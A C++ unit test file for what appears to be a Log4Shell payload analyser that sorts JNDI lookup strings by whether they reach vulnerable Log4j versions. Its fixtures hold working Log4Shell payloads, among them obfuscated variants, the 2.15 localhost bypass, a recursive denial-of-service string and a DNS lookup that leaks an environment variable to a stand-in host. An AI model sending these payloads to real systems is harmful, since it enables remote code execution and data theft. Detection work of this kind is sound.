#include "hunt/resolve.h"

#include <gtest/gtest.h>

namespace l4s::hunt {
namespace {

TEST(ResolveTest, Verdicts) {
  EXPECT_EQ(resolve("${jndi:ldap://198.51.100.23:1389/a}").verdict, Verdict::kReachesJndi214);
  EXPECT_EQ(resolve("${jndi:ldap://127.0.0.1#evil.example:1389/a}").verdict, Verdict::kPasses215Checks);
  EXPECT_EQ(resolve("${${::-${::-$${::-j}}}}").verdict, Verdict::kDosOnly);
  EXPECT_EQ(resolve("GET /?q=${jenkins.url} HTTP/1.1").verdict, Verdict::kInert);
  EXPECT_EQ(resolve("$${jndi:ldap://x.example/a}").verdict, Verdict::kInert);
  EXPECT_EQ(verdict_name(Verdict::kPasses215Checks), "passes_2.15_checks");
}

// resolve() evaluates from the first lookup on; the literal text before it
// must change nothing on either path (outputs, calls, outcome), whatever it
// holds: '$' runs, braces, non-ASCII (UTF-16 unit positions), ${event:Message}.
TEST(ResolveTest, LiteralPrefixChangesNothing) {
  const char* payloads[] = {
      "${jndi:ldap://x.example/a}", "$${jndi:ldap://x.example/a} ${nope}", "$$${jndi:ldap://x/a} ${y}",
      "${${lower:j}ndi:ldap://x/${event:Message}}", "${${::-${::-$${::-j}}}}", "\xF0\x9F\x98\x80 ${::-$}{jndi:rmi://y/b} ${x}",
      "${date:'$'}{jndi:ldap://z/c} ${q}", "${jndi:dns://a/${sys:file.separator}}", "${unterminated", "no lookup at all"};
  const char* prefixes[] = {"", "2021-12-10 INFO } :- $ $$ ", "\xC3\xA9\xF0\x9F\x98\x80 user ", "a$"};
  for (const char* payload : payloads) {
    for (const char* prefix : prefixes) {
      std::string text = std::string(prefix) + payload;
      Resolution r = resolve(text);
      for (EvalPath path : {EvalPath::kSubstitute, EvalPath::kMessage}) {
        Evaluation whole = evaluate_lookups(text, path);
        EXPECT_EQ(path == EvalPath::kSubstitute ? r.substitute_outcome : r.message_outcome, whole.outcome) << text;
        if (path == EvalPath::kMessage && whole.outcome == EvalOutcome::kCompleted) {
          EXPECT_EQ(r.resolved, whole.output) << text;
        }
        for (const std::string& name : whole.jndi_names) {
          bool found = false;
          for (const JndiTarget& t : r.targets) found |= t.name == name;
          EXPECT_TRUE(found) << text << ": " << name;
        }
      }
      EXPECT_EQ(r.jndi_calls, evaluate_lookups(text, EvalPath::kMessage).jndi_call_count) << text;
    }
  }
}

TEST(ResolveTest, MessagePathOnly) {
  Resolution r = resolve("$${jndi:ldap://x.example/a} ${nope}");
  EXPECT_EQ(r.verdict, Verdict::kReachesJndi214);
  EXPECT_NE(r.techniques & kTechMessageRescan, 0u);
  ASSERT_EQ(r.targets.size(), 1u);
  EXPECT_EQ(r.targets[0].host, "x.example");
}

TEST(ResolveTest, TargetsAndExfiltration) {
  Resolution r = resolve("${jndi:dns://${env:USER}.x.example} ${jndi:${lower:R}mi://y.example:1099/o}");
  ASSERT_EQ(r.targets.size(), 2u);
  EXPECT_EQ(r.targets[0].name, "dns://${env:USER}.x.example");
  EXPECT_EQ(r.targets[1].name, "rmi://y.example:1099/o");
  EXPECT_EQ(r.exfiltrated, std::vector<std::string>{"env:USER"});
  // A lookup that returns nothing leaves its original text: what the application logs.
  EXPECT_EQ(r.resolved, "${jndi:dns://${env:USER}.x.example} ${jndi:${lower:R}mi://y.example:1099/o}");
}

}  // namespace
}  // namespace l4s::hunt
